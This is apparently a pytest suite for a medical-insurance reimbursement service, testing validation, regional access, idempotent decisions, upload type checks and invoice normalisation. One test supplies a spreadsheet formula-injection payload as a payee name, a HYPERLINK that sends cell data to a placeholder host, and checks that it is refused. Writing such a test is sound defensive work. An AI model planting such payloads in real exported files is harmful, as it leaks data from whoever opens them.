"""What a claim accepts and who may act on it (the code review's defects 5, 7 and 9–13), on SQLite and PostgreSQL:
a networked hospital typed in by name, the payee the payment batches can pay, the staff of the claim's region,
the grammar of amounts, retried decisions, the name of an uploaded paper, the insurance at the dates of care,
invoice numbers in one normal form, and a fee list read before the claim is locked."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import select

from yidi.core import clock
from yidi.core.audit import AuditEvent
from yidi.core.db import Database
from yidi.core.errors import YidiError
from yidi.core.principal import Audience, Principal
from yidi.demo.service import load_demo
from yidi.filing import service as filing
from yidi.people.models import Insurance
from yidi.reimbursement import drafts, feelist, inputs, payments, service
from yidi.reimbursement.models import Claim
from yidi.reimbursement.payment_rules import ResultRow
from yidi.settlement import invoices

from .claims_support import (
    ACARBOSE,
    BJ_HOSP,
    CLEARING_LH,
    COUNTER_LH,
    LH_EMPLOYEE,
    NOW,
    OUTPATIENT_PAPERS,
    REVIEWER_LH,
    approved,
    claim_body,
    draft,
    filed_to_beijing,
    line,
    outside,
    person,
    submitted,
    upload,
    visit,
)

FANGCHENGGANG = outside("防城港演示县医院（未联网）", "450600", "level_2")
BJ_COUNTER = Principal(Audience.STAFF, "counter.110000", frozenset(), frozenset({"110000"}))
PDF = b"%PDF-1.7 a scanned paper"
PNG = b"\x89PNG\r\n\x1a\n a scanned paper"
JPEG = b"\xff\xd8\xff a scanned paper"


@pytest.fixture
def demo(db: Database, monkeypatch: pytest.MonkeyPatch) -> Iterator[Database]:
    monkeypatch.setattr(clock, "now", lambda: NOW)
    with db.unit_of_work() as s:
        load_demo(s, NOW)
    yield db


def refused(db: Database, code: str, fn: Any, *args: Any) -> YidiError:
    with pytest.raises(YidiError) as caught, db.unit_of_work() as s:
        fn(s, *args)
    assert caught.value.code == code, caught.value
    return caught.value


def audit_actions(db: Database, claim_id: str) -> list[str]:
    with db.read_only() as s:
        stmt = select(AuditEvent.action).where(AuditEvent.entity_id == claim_id).order_by(AuditEvent.id)
        return list(s.scalars(stmt))


def fcg_visit(day: str = "2026-05-20", invono: str | None = None) -> dict[str, Any]:
    return visit(day, lines=[line("1", ACARBOSE, day, "120", "2.5")], invono=invono, **FANGCHENGGANG)


# -- defect 5: a networked hospital typed in by name --------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "region"),
    [
        ("北京演示第一医院（三级综合）", "110000"),  # the register's name, typed
        ("北京演示第一医院 (三级综合)", "110105"),  # half-width brackets, a space, the county of the pooling region
    ],
)
def test_a_registered_institution_typed_in_by_name_is_refused_naming_its_code(
    demo: Database, name: str, region: str
) -> None:
    typed = visit(
        "2026-05-11", lines=[line("1", ACARBOSE, "2026-05-11", "160", "2.5")], **outside(name, region, "level_3")
    )
    with pytest.raises(YidiError) as caught:
        draft(demo, LH_EMPLOYEE, [typed])
    e = caught.value
    assert e.code == "R_INPUT" and e.details["field"] == "visits[1].institution_name"
    assert f"fixmedins_code）{BJ_HOSP}" in e.message_zh and f"give its fixmedins_code {BJ_HOSP}" in e.message_en
    with demo.read_only() as s:
        assert s.scalars(select(Claim)).all() == []


def test_an_institution_outside_the_register_is_typed_in(demo: Database) -> None:
    claim_id = draft(demo, LH_EMPLOYEE, [fcg_visit()])
    with demo.read_only() as s:
        assert service.load(s, claim_id).visits[0].institution_name == "防城港演示县医院（未联网）"


# -- defect 7: the payee the batches can pay ----------------------------------------------------------------------


def test_a_payee_the_transfer_file_would_refuse_is_refused_on_the_claim(demo: Database) -> None:
    with pytest.raises(YidiError) as formula:
        draft(demo, LH_EMPLOYEE, [], payee_name='=HYPERLINK("http://x.example/?"&A1,"陈某戊")')
    assert formula.value.details["field"] == "payee_name" and "公式符号" in formula.value.message_zh
    with pytest.raises(YidiError) as short:
        draft(demo, LH_EMPLOYEE, [], bank_account="1234567")
    assert short.value.details["field"] == "bank_account" and "8 to 32 digits" in short.value.message_en


def test_after_a_failed_transfer_the_person_gives_another_account_and_the_next_batch_pays_it(demo: Database) -> None:
    claim_id = approved(demo, LH_EMPLOYEE, [fcg_visit()])
    new_account = {"bank_name": "中国银行漯河分行", "bank_account": "6217 0000 1111 2222 333"}
    with demo.unit_of_work() as s:
        batch = payments.create_batch(s, CLEARING_LH, "411100", NOW, "batch-0001").batch
        batch_id, item = batch.id, batch.items[0]
        failed = ResultRow(1, batch_id, str(item.id), claim_id, "failed", None, None, "账户已销户", str(item.amount))
    # While the transfer is pending the account stays: the bank has the file.
    e = refused(demo, "R_STATE", drafts.put_payee, person(LH_EMPLOYEE), claim_id, new_account, NOW)
    assert "pending transfer" in e.message_en
    with demo.unit_of_work() as s:
        payments.record_results(s, CLEARING_LH, batch_id, [failed], NOW)
    with demo.unit_of_work() as s:
        claim = drafts.put_payee(s, person(LH_EMPLOYEE), claim_id, new_account, NOW)
        assert (claim.status, claim.bank_account) == ("approved", "6217000011112222333")
    with demo.read_only() as s:
        last = s.scalars(select(AuditEvent).where(AuditEvent.entity_id == claim_id).order_by(AuditEvent.id.desc()))
        event = next(iter(last))
        assert event.action == "claim.payee" and event.after["bank_account"] == "6217***********2333"
    with demo.unit_of_work() as s:
        again = payments.create_batch(s, CLEARING_LH, "411100", NOW, "batch-0002").batch
        assert [(i.source_id, i.bank_account) for i in again.items] == [(claim_id, "6217000011112222333")]


# -- defect 9: staff of the claim's region ------------------------------------------------------------------------


def test_staff_act_only_on_claims_of_their_region_not_of_any_region_the_person_was_insured_in(demo: Database) -> None:
    with demo.unit_of_work() as s:  # the person was once insured in 北京 (closed)
        s.add(
            Insurance(
                psn_no=LH_EMPLOYEE,
                insutype="390",
                insuplc_admdvs="110000",
                psn_type="1501",
                psn_insu_stas="4",
                begndate=dt.date(2010, 1, 1),
                enddate=dt.date(2014, 12, 31),
            )
        )
    claim_id = submitted(demo, LH_EMPLOYEE, [fcg_visit()])
    refused(demo, "E_NOT_FOUND", service.get_claim, BJ_COUNTER, claim_id)
    refused(demo, "E_NOT_FOUND", service.withdraw, BJ_COUNTER, claim_id, NOW)
    e = refused(demo, "E_FORBIDDEN", drafts.create_claim, BJ_COUNTER, LH_EMPLOYEE, claim_body([], insutype="310"), NOW)
    assert "411100" in e.message_en
    with demo.unit_of_work() as s:  # the 漯河 counter files for the person under the 漯河 insurance
        assert drafts.create_claim(s, COUNTER_LH, LH_EMPLOYEE, claim_body([]), NOW).insured_region == "411100"
    assert audit_actions(demo, claim_id)[-1] == "claim.submit"  # nothing withdrawn


# -- defect 10: the grammar of amounts ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["12,50", "1,2,3", "1_000", "1e3", "１２.５０", "٣", "12.", ".5", "1 000", "0x10"])
def test_an_amount_outside_parse_amounts_grammar_is_refused(text: str) -> None:
    number, problem = inputs.decimal_problem(text, 2, maximum=Decimal("5000000"), positive=True)
    assert (number, problem) == (None, ("不是数字", "is not a number"))


@pytest.mark.parametrize(
    ("value", "places", "expected"),
    [("1,234.50", 2, "1234.50"), ("12.5", 2, "12.5"), (" 7 ", 2, "7"), (7, 2, "7"), ("2.5000", 4, "2.5000")],
)
def test_amounts_in_the_grammar_are_read_exactly(value: object, places: int, expected: str) -> None:
    number, problem = inputs.decimal_problem(value, places, maximum=Decimal("5000000"), positive=True)
    assert problem is None and str(number) == expected


def test_a_decimal_comma_in_an_invoice_names_the_field(demo: Database) -> None:
    bad = fcg_visit() | {"invoices": [{"invono": "A", "invoice_date": "2026-05-20", "amount": "300,00"}]}
    with pytest.raises(YidiError) as caught:
        draft(demo, LH_EMPLOYEE, [bad])
    assert caught.value.details["field"] == "visits[1].invoices[1].amount"
    assert "不是数字" in caught.value.message_zh and "not a number" in caught.value.message_en


# -- defect 11: retried decisions ----------------------------------------------------------------------------------


@pytest.mark.parametrize("action", ["return", "refuse"])
def test_a_retried_return_or_refusal_answers_the_claim_and_another_reason_is_refused(
    demo: Database, action: str
) -> None:
    claim_id = submitted(demo, LH_EMPLOYEE, [fcg_visit()])

    def decide(s: Any, reason: str) -> Claim:
        if action == "return":
            return service.return_claim(s, REVIEWER_LH, claim_id, reason, ["diagnosis", "discharge_summary"], NOW)
        return service.refuse(s, REVIEWER_LH, claim_id, reason, NOW)

    with demo.unit_of_work() as s:
        first = decide(s, "请补充出院小结")
        status, version = first.status, first.version
    with demo.unit_of_work() as s:  # the answer was lost: asked again, also with the kinds in another order
        again = (
            service.return_claim(s, REVIEWER_LH, claim_id, " 请补充出院小结", ["discharge_summary", "diagnosis"], NOW)
            if action == "return"
            else decide(s, "请补充出院小结")
        )
        assert (again.status, again.version, again.reason) == (status, version, "请补充出院小结")
    assert audit_actions(demo, claim_id).count(f"claim.{action}") == 1
    e = refused(demo, "R_STATE", decide, "另一个原因")
    assert claim_id in e.message_en


def test_retried_take_approve_submit_and_withdraw_change_nothing(demo: Database) -> None:
    claim_id = submitted(demo, LH_EMPLOYEE, [fcg_visit(), fcg_visit("2026-05-21")])
    exclusion = [{"seq": 2, "feedetl_sn": "1", "reason": "与诊断无关"}]
    with demo.unit_of_work() as s:
        assert service.submit(s, person(LH_EMPLOYEE), claim_id, NOW).status == "submitted"
        service.take(s, REVIEWER_LH, claim_id, NOW)
        service.take(s, REVIEWER_LH, claim_id, NOW)
    with demo.unit_of_work() as s:
        service.approve(s, REVIEWER_LH, claim_id, exclusion, NOW)
    with demo.unit_of_work() as s:
        claim = service.approve(s, REVIEWER_LH, claim_id, exclusion, NOW)  # a retry
        assert (claim.status, claim.payable) == ("approved", Decimal("90.00"))  # (300 − 150) × 0.60
    refused(demo, "R_STATE", service.approve, REVIEWER_LH, claim_id, [], NOW)  # other exclusions
    assert audit_actions(demo, claim_id)[-3:] == ["claim.submit", "claim.take", "claim.approve"]
    other = draft(demo, LH_EMPLOYEE, [])
    with demo.unit_of_work() as s:
        service.withdraw(s, person(LH_EMPLOYEE), other, NOW)
        service.withdraw(s, person(LH_EMPLOYEE), other, NOW)
    assert audit_actions(demo, other) == ["claim.create", "claim.withdraw"]


# -- defect 12: an uploaded paper is named for what it is ---------------------------------------------------------


@pytest.mark.parametrize("name", ["invoice.png", "invoice.exe", "invoice.html", "invoice", "invoice.pdf.png"])
def test_a_paper_named_for_another_type_is_refused(demo: Database, name: str) -> None:
    claim_id = draft(demo, LH_EMPLOYEE, [])
    e = refused(demo, "F_UPLOAD", drafts.add_material, person(LH_EMPLOYEE), claim_id, "invoice", name, PDF, NOW)
    assert "application/pdf" in e.message_en and ".pdf" in e.message_zh
    with demo.read_only() as s:
        assert service.load(s, claim_id).materials == []


@pytest.mark.parametrize(
    ("name", "content"),
    [("发票.PDF", PDF), ("scan.png", PNG), ("photo.JPG", JPEG), ("photo.jpeg", JPEG)],
)
def test_a_paper_named_for_its_type_is_kept(demo: Database, name: str, content: bytes) -> None:
    claim_id = draft(demo, LH_EMPLOYEE, [])
    with demo.unit_of_work() as s:
        material = drafts.add_material(s, person(LH_EMPLOYEE), claim_id, "invoice", name, content, NOW)
        assert material.filename == name


def test_a_filing_material_is_named_for_its_type_too(demo: Database) -> None:
    filing_id = filed_to_beijing(demo, LH_EMPLOYEE, dt.date(2026, 5, 1), NOW)
    e = refused(
        demo, "F_UPLOAD", filing.add_material, person(LH_EMPLOYEE), filing_id, "diagnosis", "证明.png", PDF, NOW
    )
    assert "application/pdf" in e.message_en


# -- defect 13: the insurance at the dates of care; invoice numbers ------------------------------------------------


def _end_insurance(db: Database, enddate: dt.date | None) -> None:
    with db.unit_of_work() as s:
        insurance = s.scalars(select(Insurance).where(Insurance.psn_no == LH_EMPLOYEE)).one()
        insurance.enddate, insurance.psn_insu_stas = enddate, "4"


def test_care_of_the_insurance_period_is_claimed_after_the_insurance_ended(demo: Database) -> None:
    claim_id = draft(demo, LH_EMPLOYEE, [fcg_visit()])
    upload(demo, claim_id, OUTPATIENT_PAPERS, person(LH_EMPLOYEE))
    _end_insurance(demo, dt.date(2026, 5, 31))  # care on 20 May, insured until 31 May, claimed on 1 June
    with demo.unit_of_work() as s:
        assert service.submit(s, person(LH_EMPLOYEE), claim_id, NOW).status == "submitted"


def test_care_filed_while_insured_keeps_its_category_after_the_insurance_ended(demo: Database) -> None:
    """Filed to 北京 (other temporary) from 1 May, seen at 北京演示第一医院 on 20 May, insured until 31 May, claimed on
    1 June: other temporary, (300 − 150) × 0.30 = 45.00 (not unfiled at 0.50, 75.00)."""
    filed_to_beijing(demo, LH_EMPLOYEE, dt.date(2026, 5, 1), dt.datetime(2026, 5, 1, 9, tzinfo=NOW.tzinfo))
    day = visit("2026-05-20", lines=[line("1", ACARBOSE, "2026-05-20", "120", "2.5")], invono="BJ-0520")
    claim_id = submitted(demo, LH_EMPLOYEE, [day])
    _end_insurance(demo, dt.date(2026, 5, 31))
    with demo.unit_of_work() as s:
        service.take(s, REVIEWER_LH, claim_id, NOW)
        claim = service.approve(s, REVIEWER_LH, claim_id, [], NOW)
        assert (claim.visits[0].category, claim.fund_pay_sumamt) == ("other_temporary", Decimal("45.00"))


def test_an_insurance_stopped_without_an_end_date_is_not_claimed_on(demo: Database) -> None:
    claim_id = draft(demo, LH_EMPLOYEE, [fcg_visit()])
    upload(demo, claim_id, OUTPATIENT_PAPERS, person(LH_EMPLOYEE))
    _end_insurance(demo, None)
    e = refused(demo, "R_INPUT", service.submit, person(LH_EMPLOYEE), claim_id, NOW)
    assert e.details["field"] == "insutype" and "not active" in e.message_en


@pytest.mark.parametrize("typed", ["bj-1", " BJ-1 ", "ＢＪ－１"])
def test_an_invoice_number_is_one_invoice_whatever_its_case_or_width(demo: Database, typed: str) -> None:
    with demo.unit_of_work() as s:
        invoices.take(s, BJ_HOSP, "BJ-1", invoices.SETTLEMENT, "S1", NOW)
        with pytest.raises(invoices.InvoiceTaken) as taken:
            invoices.take(s, BJ_HOSP, typed, invoices.CLAIM, "R1", NOW)
        assert taken.value.owner_id == "S1"
        assert invoices.owner_of(s, BJ_HOSP, typed) == ("settlement", "S1")


def test_one_invoice_typed_in_two_cases_in_one_claim_is_refused(demo: Database) -> None:
    claim_id = draft(demo, LH_EMPLOYEE, [fcg_visit(invono="fcg-1"), fcg_visit("2026-05-21", invono="FCG-1")])
    upload(demo, claim_id, OUTPATIENT_PAPERS, person(LH_EMPLOYEE))
    e = refused(demo, "R_INPUT", service.submit, person(LH_EMPLOYEE), claim_id, NOW)
    assert e.details["field"] == "visits[2].invoices[1].invono"


# -- defect 8: the fee list is read before the claim is locked --------------------------------------------------


def test_the_fee_list_is_read_before_the_claim_is_locked(demo: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    """While the file is read another writer can lock the claim (PostgreSQL: FOR UPDATE NOWAIT would fail were the
    row held); a stranger's file is not read at all."""
    claim_id = draft(demo, LH_EMPLOYEE, [fcg_visit()])
    reads: list[str] = []
    real = feelist.read_fee_table

    def reading(filename: str, content: bytes) -> list[tuple[int, dict[str, Any]]]:
        if demo.engine.dialect.name == "postgresql":
            with demo.unit_of_work() as other:
                stmt = select(Claim.id).where(Claim.id == claim_id).with_for_update(nowait=True)
                reads.append(other.scalars(stmt).one())
        else:  # SQLite serialises writers on the whole file: nothing to lock row by row
            reads.append(claim_id)
        return real(filename, content)

    monkeypatch.setattr(feelist, "read_fee_table", reading)
    content = (
        b"feedetl_sn,med_list_codg,medins_list_codg,fee_ocur_time,cnt,pric,det_item_fee_sumamt\n"
        b"9,XA10BFA331A740537984000,Y,2026-05-20 09:00:00,2,2.5,5.00\n"
    )
    stranger = person("41110000000000000006")
    refused(demo, "E_FORBIDDEN", drafts.import_fee_list, stranger, claim_id, 1, "list.csv", content, NOW)
    assert reads == []
    with demo.unit_of_work() as s:
        claim = drafts.import_fee_list(s, person(LH_EMPLOYEE), claim_id, 1, "list.csv", content, NOW)
        assert [ln.feedetl_sn for ln in claim.visits[0].lines] == ["9"]
    assert reads == [claim_id]
